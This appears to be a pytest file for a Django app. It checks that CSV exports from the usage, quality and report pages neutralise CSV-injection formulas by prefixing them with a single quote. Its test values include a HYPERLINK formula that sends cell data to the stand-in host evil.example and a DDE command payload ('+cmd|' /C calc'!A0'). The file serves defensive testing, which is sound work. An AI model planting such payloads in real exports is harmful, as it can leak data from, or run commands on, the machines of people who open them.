"""CSV exports follow OWASP's advice on CSV injection, through the one writer
every export uses (core.pages.tables.csv_cell): a cell starting with "=",
"+", "-", "@", a tab or a carriage return gets a leading single quote, so a
spreadsheet shows it as text instead of running it; plain numbers stay as
they are. Tried through real exports of the usage, quality and report pages."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from core.pages.tables import csv_cell
from core.tests import factories as f
from usage import ledger
from usage.models import ModelUsage
from usage.tests.conftest import TODAY

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NOON = dt.datetime.combine(TODAY, dt.time(12), tzinfo=dt.UTC)


def _csv(response):
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),  # a plain number stays a number
        ("+7", "+7"),
        ("-1e-3", "-1e-3"),
        ("-", "'-"),
        ("gpt-4o", "gpt-4o"),  # a "-" inside is harmless
        (Decimal("-3.5"), Decimal("-3.5")),
        (-2, -2),
        (None, ""),
        (dt.timedelta(seconds=-1), "'-1 day, 23:59:59"),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


@pytest.fixture
def hostile(db, time_zone, fixed_today):
    """Names and e-mails a spreadsheet would run as formulas."""
    user = f.AppUserFactory(email="@evil.example", username="=cmd")
    ledger.add_usage(
        [
            ModelUsage(
                user=user,
                model_name=HYPERLINK,
                provider="+provider",
                prompt_tokens=10,
                completion_tokens=5,
                cost=Decimal("0.5"),
                timestamp=NOON,
            )
        ]
    )
    chat = f.ChatFactory(user=user, created_at=NOON)
    message = f.MessageFactory(chat=chat, role="assistant", created_at=NOON)
    f.CodeExecutionFactory(
        message=message, model_name="-3.5", model_provider="@provider", created_at=NOON
    )
    f.CodeExecutionFactory(
        message=message, model_name=HYPERLINK, model_provider="\tprovider", created_at=NOON
    )
    f.DeepAnalysisReportFactory(user=user, goal="=1+2 the report", created_at=NOON)
    return user


def test_usage_exports_quote_formulas(client, manager, hostile):
    client.force_login(manager)
    overview = reverse("dashboards:overview")
    top = _csv(client.get(overview, {"period": "7d", "export": "top_users"}))
    assert top[1][0] == "'@evil.example"
    models = _csv(client.get(reverse("dashboards:models"), {"period": "7d", "export": "models"}))
    assert models[1][:2] == ["'" + HYPERLINK, "'+provider"]
    providers = _csv(client.get(overview, {"period": "7d", "export": "cost_by_provider"}))
    assert [row[0] for row in providers[1:]] == ["'+provider"]


def test_quality_and_report_exports_quote_formulas(client, manager, hostile):
    client.force_login(manager)
    rows = _csv(client.get(reverse("quality:code"), {"period": "7d", "export": "models"}))
    by_model = {row[0]: row[1] for row in rows[1:]}
    assert by_model == {"'" + HYPERLINK: "'\tprovider", "-3.5": "'@provider"}
    executions = _csv(
        client.get(
            reverse("quality:executions"),
            {"period": "7d", "outcome": "all", "export": "executions"},
        )
    )
    assert {row[2] for row in executions[1:]} == {"'@evil.example"}
    reports = _csv(client.get(reverse("reports:list"), {"period": "7d", "export": "reports"}))
    assert [row[1:3] for row in reports[1:]] == [["'=1+2 the report", "'@evil.example"]]
